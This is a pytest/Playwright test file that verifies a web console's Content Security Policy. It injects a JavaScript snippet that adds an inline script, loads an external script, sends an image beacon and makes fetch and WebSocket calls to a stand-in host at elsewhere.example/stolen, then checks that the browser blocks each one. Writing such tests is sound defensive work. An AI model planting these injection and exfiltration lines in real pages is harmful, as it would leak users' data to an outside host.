"""The policy of the pages, as a browser understands it."""

from __future__ import annotations

import asyncio

import pytest
from playwright.async_api import expect

from tests.support.chromium import Guarded

pytestmark = [pytest.mark.anyio, pytest.mark.slow, pytest.mark.timeout(300)]

# What an attacker would try, could he write into a page.
_ATTEMPTS = """() => {
  const script = document.createElement("script");
  script.textContent = "window.ran = true";
  const elsewhere = document.createElement("script");
  elsewhere.src = "https://elsewhere.example/x.js";
  const image = document.createElement("img");
  image.src = "https://elsewhere.example/x.png?stolen";
  document.body.append(script, elsewhere, image);
  fetch("https://elsewhere.example/stolen").catch(() => {});
  try { new WebSocket("wss://elsewhere.example/stolen"); } catch {}
}"""


@pytest.mark.parametrize("path", ["/", "/graphql"])
async def test_what_is_written_into_a_page_neither_runs_nor_gets_out(
    console: Guarded, path: str
) -> None:
    await console.open(path)
    await expect(console.page.get_by_text("Jobs").first).to_be_visible()
    assert console.troubles == []

    await console.page.evaluate(_ATTEMPTS)

    async with asyncio.timeout(15):
        while not all(_kept_out(console, one) for one in ("script-src", "img-src", "connect-src")):
            await asyncio.sleep(0.05)
    assert await console.page.evaluate("window.ran") is None
    console.allow("elsewhere|inline|policy: script-src")


def _kept_out(console: Guarded, directive: str) -> bool:
    return any(trouble.startswith(f"policy: {directive}") for trouble in console.troubles)
